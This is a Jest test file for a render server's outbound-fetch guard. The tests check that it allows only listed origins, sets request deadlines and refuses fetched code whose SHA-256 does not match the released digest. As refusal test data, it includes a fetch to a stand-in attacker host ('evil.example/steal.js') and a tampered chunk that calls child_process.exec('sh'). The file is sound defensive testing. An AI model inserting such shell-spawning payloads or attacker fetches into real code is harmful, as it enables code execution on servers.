/**
 * @jest-environment node
 */
import { createHash } from 'node:crypto';
import { guardOutboundFetch, UnreleasedCodeError, verifyReleasedCode } from '../src/server/outbound-fetch';

// The render server runs remote code it fetches: it may reach only the deployment's remotes and API,
// and no request of its own may wait forever.
const underlying = jest.fn(async (_input: unknown, _init?: RequestInit) => new Response('ok'));

beforeAll(() => {
  globalThis.fetch = underlying as unknown as typeof fetch;
  guardOutboundFetch({ origins: ['http://localhost:3001', 'http://api.internal:4000'], timeoutMs: 5000 });
});

test('reaches the allowed origins, each request with a deadline (its own, joined with the bound)', async () => {
  await fetch('http://localhost:3001/server/remoteEntry.js');
  const own = new AbortController();
  await fetch('http://api.internal:4000/auth/session', { signal: own.signal, headers: { Authorization: 'Session x' } });
  expect(underlying).toHaveBeenCalledTimes(2);
  const [first, second] = underlying.mock.calls.map(([, init]) => init!);
  expect(first!.signal).toBeInstanceOf(AbortSignal);
  expect(second!.headers).toEqual({ Authorization: 'Session x' });
  own.abort();
  expect(second!.signal!.aborted).toBe(true);
});

test('refuses any other origin, before anything leaves', async () => {
  underlying.mockClear();
  await expect(fetch('http://evil.example/steal.js')).rejects.toThrow('The render server does not fetch from http://evil.example.');
  await expect(fetch('http://localhost:3009/other-app.js')).rejects.toThrow(TypeError);
  expect(underlying).not.toHaveBeenCalled();
});

describe("a release's files (the render server runs them)", () => {
  const release = 'http://localhost:3001/1.0.0-aaaaaaaaaaaa/';
  const sha256 = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;
  const digests: Record<string, string> = { 'server/remoteEntry.js': sha256('module.exports = 1'), 'server/chunk.0123456789.js': sha256('exports.ids = [1]') };

  beforeAll(() => {
    verifyReleasedCode((url) => {
      if (!url.startsWith(release)) return undefined;
      return digests[new URL(url).pathname.slice(new URL(release).pathname.length)] ?? null;
    });
  });
  beforeEach(() => underlying.mockClear());
  const error = jest.spyOn(console, 'error').mockImplementation(() => undefined);

  test('are handed on when their SHA-256 is the recorded one (an entry asked for with its ?v= too)', async () => {
    underlying.mockResolvedValueOnce(new Response('module.exports = 1', { headers: { 'Content-Encoding': 'br' } }));
    const entry = await fetch(`${release}server/remoteEntry.js?v=W%2F%22abc%22`);
    expect(await entry.text()).toBe('module.exports = 1');
    expect(entry.headers.get('content-encoding')).toBeNull();
    underlying.mockResolvedValueOnce(new Response('exports.ids = [1]'));
    expect(await (await fetch(`${release}server/chunk.0123456789.js`)).text()).toBe('exports.ids = [1]');
  });

  test('with other bytes are refused, and the refusal is logged', async () => {
    underlying.mockResolvedValueOnce(new Response('exports.ids = [1]; require("child_process").exec("sh")'));
    await expect(fetch(`${release}server/chunk.0123456789.js`)).rejects.toThrow(UnreleasedCodeError);
    expect(error).toHaveBeenLastCalledWith(expect.stringMatching(/^The render server refuses http:\/\/localhost:3001\/1\.0\.0-aaaaaaaaaaaa\/server\/chunk\.0123456789\.js: its contents are not the ones released/));
  });

  test('a file the release does not list is not even fetched; a 304 (no body) and files outside any release pass', async () => {
    await expect(fetch(`${release}server/added.js`)).rejects.toThrow('it is not a file of a release the host accepts');
    expect(underlying).not.toHaveBeenCalled();
    underlying.mockResolvedValueOnce(new Response(null, { status: 304 }));
    expect((await fetch(`${release}server/remoteEntry.js`, { headers: { 'If-None-Match': '"x"' } })).status).toBe(304);
    underlying.mockResolvedValueOnce(new Response('anything'));
    expect(await (await fetch('http://localhost:3001/mf-manifest.json')).text()).toBe('anything');
  });
});
